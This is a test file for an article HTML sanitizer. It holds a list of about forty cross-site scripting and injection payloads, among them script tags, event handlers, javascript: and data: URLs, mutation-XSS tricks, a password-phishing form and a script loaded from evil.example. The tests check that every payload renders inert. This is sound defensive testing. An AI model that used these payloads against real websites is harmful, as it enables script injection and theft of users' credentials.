import { renderScreen } from '@firm/testing';
import { screen } from '@testing-library/react';
import { articleNodes } from './articleNodes.tsx';
import { articleTree, withWords } from './articleTree.ts';

/** Attacks known from other sites; each must become plain text or disappear. */
const hostile = [
  '<script>window.hacked = 1</script>',
  '<p>Hello<script src="https://evil.example/x.js"></script></p>',
  '<img src="x" onerror="window.hacked = 1">',
  '<img src="javascript:window.hacked=1">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<p onclick="window.hacked = 1" onmouseover=alert(1)>Press</p>',
  '<a href="javascript:window.hacked=1">Read on</a>',
  '<a href="JaVaScRiPt:alert(1)">Read on</a>',
  '<a href="  javascript:alert(1)">Read on</a>',
  '<a href="java&#10;script:alert(1)">Read on</a>',
  '<a href="&#106;avascript&colon;alert(1)">Read on</a>',
  '<a href="data:text/html,<script>alert(1)</script>">Read on</a>',
  '<a href="vbscript:msgbox(1)">Read on</a>',
  '<a href="blob:https://evil.example/1">Read on</a>',
  '<a href="//evil.example/phish">Read on</a>',
  '<a href="/\\evil.example/phish">Read on</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password" type="password"><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)" form="other">Press</button>',
  '<style>body { display: none }</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/t.gif)">Over everything</p>',
  '<p class="panel" id="root">Wears our classes</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>Read</text></a></svg>',
  '<svg><animate onbegin="alert(1)" attributeName="x"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle="alert(1)"><summary>More</summary></details>',
  '<video src="https://evil.example/x.mp4" autoplay onloadstart="alert(1)"></video>',
  '<marquee onstart="alert(1)">Hello</marquee>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">Cell</td></tr></table>',
  '<p data-action="delete" aria-hidden="true" contenteditable tabindex="1" autofocus>Acts</p>',
  '<custom-element is="evil-thing">Hello</custom-element>',
  '<img src="https://example.com/a.png" srcset="https://evil.example/t.gif 2x" usemap="#m" referrerpolicy="unsafe-url">',
  '<select><option>Choose<textarea>Type</textarea></select>',
  '<<script>alert(1)//<</script>',
  '<p><!-- <img src=x onerror=alert(1)> -->Hello</p>',
];

const forbiddenElements =
  'script, style, iframe, object, embed, form, input, button, select, textarea, svg, math, link, meta, base, template, noscript, video, audio, details, [is]';
const keptAttributes =
  /^(?:href|src|alt|width|height|title|lang|dir|colspan|rowspan|scope|start|datetime|id|rel|loading)$/;

const render = (html: string) => {
  const { container } = renderScreen(<div data-testid="article">{articleNodes(articleTree(html), 'Table')}</div>);
  expect(container).toBeInTheDocument();
  return screen.getByTestId('article');
};

describe('hostile HTML', () => {
  it.each(hostile)('%s is inert', (html) => {
    const article = render(html);
    expect(article.querySelector(forbiddenElements)).toBeNull();
    for (const element of article.querySelectorAll('*:not([role=group])')) {
      for (const { name, value } of element.attributes) {
        expect(name).toMatch(keptAttributes);
        if (name === 'href' || name === 'src') expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:|\/[^/\\]|#|$)/);
        if (name === 'src') expect(value).toMatch(/^\/[^/\\]/);
        if (name === 'id') expect(value).toMatch(/^article-/);
      }
    }
    expect(article.innerHTML).not.toMatch(/evil\.example/);
    expect(window).not.toHaveProperty('hacked');
  });

  it('keeps the words around it', () => {
    expect(render('<p onclick="x()">Press <b>here</b><script>x()</script>.</p>').textContent).toBe('Press here.');
  });
});

describe('an honest article', () => {
  it('stays as it was written', () => {
    const html =
      '<h2>Line</h2><p>One <strong>two</strong> <em>three</em>.</p><ol start="3"><li>Third</li></ol>' +
      '<blockquote><p>Said</p></blockquote><dl><dt>W-2</dt><dd>Wages</dd></dl>';
    expect(render(html).innerHTML).toBe(html);
  });

  it('leaves the only h1 to the screen', () => {
    render('<h1>First</h1><h6>Last</h6>');
    expect(screen.getByRole('heading', { name: 'First' }).tagName).toBe('H2');
    expect(screen.getByRole('heading', { name: 'Last' }).tagName).toBe('H4');
  });

  it('keeps tables with their heads, in a box that can be reached and scrolled', () => {
    render(
      '<table>\n<thead>\n<tr>\n<th scope="col">Code</th>\n</tr></thead><tbody><tr><td colspan="2">CP14</td></tr></tbody></table>',
    );
    expect(screen.getByRole('columnheader', { name: 'Code' })).toHaveAttribute('scope', 'col');
    expect(screen.getByRole('cell', { name: 'CP14' })).toHaveAttribute('colspan', '2');
    expect(screen.getByRole('group', { name: 'Table' })).toHaveAttribute('tabindex', '0');
  });

  it('marks tables with sentences in their last column', () => {
    const table = (last: string) => `<table><tbody><tr><th>Code</th><td>${last}</td></tr></tbody></table>`;
    const article = render(table('What you owe, with the interest') + table('$1,250'));
    const marks = [...article.querySelectorAll('table')].map((one) => one.hasAttribute('data-wordy'));
    expect(marks).toEqual([true, false]);
  });

  it('takes other words, which are no markup', () => {
    const article = articleTree('<p>Of <strong>{{firm}}</strong></p>');
    const filled = withWords(article, (words) => words.replace('{{firm}}', '<b>A & B</b>'));
    const { container } = renderScreen(<div>{articleNodes(filled, 'Table')}</div>);
    expect(container.querySelector('b')).toBeNull();
    expect(screen.getByText('<b>A & B</b>').tagName).toBe('STRONG');
  });

  it('leads out of the site by an ordinary link, within the article by its own ids', () => {
    render(
      '<a href="https://www.irs.gov/a">IRS</a> <a href="tel:+17185550142">Call</a> <a href="#n1">1</a><p id="n1">Note</p>',
    );
    expect(screen.getByRole('link', { name: 'IRS' })).toHaveAttribute('rel', 'noopener noreferrer');
    expect(screen.getByRole('link', { name: 'Call' })).toHaveAttribute('href', 'tel:+17185550142');
    expect(screen.getByRole('link', { name: '1' })).toHaveAttribute('href', '#article-n1');
    expect(screen.getByText('Note')).toHaveAttribute('id', 'article-n1');
  });
});
